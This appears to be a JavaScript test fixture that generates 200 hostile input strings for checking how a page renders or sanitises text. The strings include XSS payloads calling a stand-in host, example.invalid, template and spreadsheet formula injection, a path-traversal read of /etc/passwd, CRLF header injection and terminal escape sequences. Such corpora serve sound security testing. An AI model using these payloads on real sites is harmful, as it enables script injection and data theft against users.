// Two hundred texts that somebody hopes a page will run, fetch, or be rearranged by. Every one that runs calls
// hit(), asks example.invalid for something, or opens a dialog.

const HIT = "window.hit_=(window.hit_||0)+1;fetch('http://example.invalid/f')";
const TAGS = [
  `<script>${HIT}</script>`, `<img src=x onerror="${HIT}">`, `<svg onload="${HIT}">`, `<svg><script>${HIT}</script></svg>`,
  `<iframe src="javascript:${HIT}"></iframe>`, `<iframe srcdoc="<script>parent.hit_=1</script>"></iframe>`, `<object data="http://example.invalid/o"></object>`,
  `<embed src="http://example.invalid/e">`, `<link rel=stylesheet href="http://example.invalid/c">`, `<style>@import 'http://example.invalid/i';*{display:none}</style>`,
  `<base href="http://example.invalid/">`, `<meta http-equiv=refresh content="0;url=http://example.invalid/">`, `<form action="http://example.invalid/"><input autofocus onfocus="${HIT}">`,
  `<a href="javascript:${HIT}">x</a>`, `<body onload="${HIT}">`, `<details open ontoggle="${HIT}">`, `<video src=x onerror="${HIT}"></video>`, `<audio src="http://example.invalid/a" autoplay>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}">`, `<template><img src=x onerror="${HIT}"></template>`, `<img srcset="http://example.invalid/s 1x">`,
  `<input type=image src="http://example.invalid/i">`, `<marquee onstart="${HIT}">`, `<select autofocus onfocus="${HIT}">`, `<div style="background:url(http://example.invalid/b)">`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, `<xmp><img src=x onerror="${HIT}"></xmp>`, `<!--><img src=x onerror="${HIT}">-->`, `<![CDATA[<script>${HIT}</script>]]>`,
  `<portal src="http://example.invalid/">`,
];
const BREAKS = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', '</svg>', '`', '${', '{{'];
const PLAIN = [
  `javascript:${HIT}`, `data:text/html,<script>${HIT}</script>`, `vbscript:${HIT}`, '//example.invalid/x', 'http://example.invalid/x', 'https://example.invalid/x', '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '=cmd|calc!A1', '@SUM(1+1)', '+1+1', '-1+1', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'null', 'undefined', 'NaN', 'true',
  '\u202egnp.exe\u202c', '\u2066right\u2069', '\u200b\u200d\ufeff', '\u0000\u0001\u0007\u001b[31mred', '\u001b]8;;http://example.invalid/\u0007link\u001b]8;;\u0007', '\u001b[2J\u001b[H', '\r\nSet-Cookie: a=b',
  '\u2028\u2029', '\ud83d\ude00'.repeat(20), 'e\u0301'.repeat(50), 'Z\u0351\u036b\u0343'.repeat(40), '漢字かな交じり', 'نص عربي', 'עברית', 'x'.repeat(5000), ' '.repeat(300) + 'end', '\t\t\t', '../../../../etc/passwd',
  '%3Cscript%3E', '&lt;script&gt;', '&#60;script&#62;', '\\u003cscript\\u003e', '\\', '"', "'", '`', '<', '>', '&', ';', '%', '%00', '%s%n', '?', '#', '/', '//',
];

const all = [...PLAIN];
for (let i = 0; all.length < 200; i += 1) all.push(`${BREAKS[i % BREAKS.length]}${TAGS[(i * 7) % TAGS.length]}`);

export const HOSTILE = all.slice(0, 200);
